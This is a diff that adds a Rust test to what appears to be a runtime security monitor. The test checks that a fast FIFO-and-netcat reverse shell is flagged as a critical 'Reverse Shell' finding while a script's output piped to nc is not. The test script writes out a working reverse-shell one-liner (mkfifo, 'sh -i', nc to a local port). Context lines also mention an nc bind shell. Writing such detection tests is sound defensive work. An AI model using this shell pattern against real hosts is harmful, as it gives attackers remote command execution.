@@ -123,6 +123,43 @@ fn scc_reverse_shell_through_a_fifo_and_nc() {
 }
 
 #[test]
+fn a_fast_fifo_relay_is_a_reverse_shell_at_exec() {
+    // The same relay answering at once and gone within milliseconds, with the default 500 ms scan:
+    // the pipeline view names it at the exec of whichever of sh and nc starts second, before any
+    // socket. A script's output sent with nc is not a shell reading commands: no Reverse Shell.
+    let (port, peer) = attacker(Duration::ZERO, b"echo fast-$((6*7))\nexit\n");
+    let (quiet_port, quiet_peer) = attacker(Duration::ZERO, b"");
+    let dir = tempfile::tempdir().unwrap();
+    let (mut cmd, sink) = rw_scanning(dir.path());
+    cmd.env_remove("RUNWARDEN_SCAN_INTERVAL");
+    let fifo = dir.path().join("f");
+    let report = dir.path().join("report.sh");
+    std::fs::write(&report, "echo report\n").unwrap();
+    let script = format!(
+        "mkfifo {f}; cat {f} | sh -i 2>&1 | nc -q 0 127.0.0.1 {port} > {f}; rm -f {f}; \
+         sh {r} | nc -q 0 127.0.0.1 {quiet_port}",
+        f = fifo.display(),
+        r = report.display()
+    );
+    cmd.args(["--", "bash", "-c", &script]);
+    let out = run(&mut cmd, TIMEOUT);
+    out.assert_code(0);
+    assert!(peer.join().unwrap().contains("fast-42"), "the FIFO shell did not run");
+    quiet_peer.join().unwrap();
+
+    let findings = read_findings(&sink);
+    let f = one(&findings, "reverse_shell_netcat_pipeline");
+    assert_eq!(f["category"], "Reverse Shell");
+    assert_eq!(f["severity"], "CRITICAL");
+    let p = &f["processes"][0];
+    let argv0 = p["args"][0].as_str().unwrap();
+    assert!(argv0 == "sh" || argv0 == "nc", "the shell or its netcat: {p:#}");
+    let description = f["description"].as_str().unwrap();
+    assert!(description.contains(&format!("127.0.0.1 {port}")), "{description}");
+    assert!(!description.contains(&quiet_port.to_string()), "{description}");
+}
+
+#[test]
 fn scc_bind_shell_is_a_new_listening_socket() {
     // `nc -l` with a shell behind it, started by the workload's main process (a shell), which is the
     // service: the listener belongs to nc, not to it.
